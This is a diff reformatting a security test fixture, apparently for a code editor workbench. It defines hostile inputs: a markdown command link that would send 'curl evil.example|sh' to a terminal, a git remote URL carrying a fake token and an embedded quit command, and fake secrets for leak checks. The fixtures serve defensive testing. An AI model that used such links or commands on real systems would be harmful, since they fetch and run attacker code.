@@ -3,7 +3,8 @@
 // be written or shown anywhere.
 
 /** A link that would run a command with the attacker's arguments if the workbench rendered it. */
-export const COMMAND_LINK = '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';
+export const COMMAND_LINK =
+  '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';
 
 /** The folder of the multi-root workspace that plays the tricks (its .vscode/settings.json, file names, git). */
 export const HOSTILE_FOLDER = 'hostile-repo';
@@ -32,7 +33,14 @@ export const REMOTE_SECRET = 'ghp_REMOTEcredential9x8y7z';
 export const HOSTILE_REMOTE = `https://deploy:${REMOTE_SECRET}@github.com/acme/[repo](command:workbench.action.quit).git`;
 
 /** Secret shapes the echoing server adds to what it echoes (beside the request's own Authorization header). */
-export const ECHO_SECRETS = ['SECRETcookie77', 'SECRETmsal77', 'SECRETcode77', 'SECRETverifier77', 'SECRETassertion77', 'SECRETpassword77'];
+export const ECHO_SECRETS = [
+  'SECRETcookie77',
+  'SECRETmsal77',
+  'SECRETcode77',
+  'SECRETverifier77',
+  'SECRETassertion77',
+  'SECRETpassword77',
+];
 export const ECHO_EXTRA = ` Cookie: sid=${ECHO_SECRETS[0]}; theme=dark {"secret":"${ECHO_SECRETS[1]}"} ?code=${ECHO_SECRETS[2]}&code_verifier=${ECHO_SECRETS[3]}&client_assertion=${ECHO_SECRETS[4]} {"password":"${ECHO_SECRETS[5]}"}`;
 
 /** A glob whose naive matching is exponential in the path's depth. */
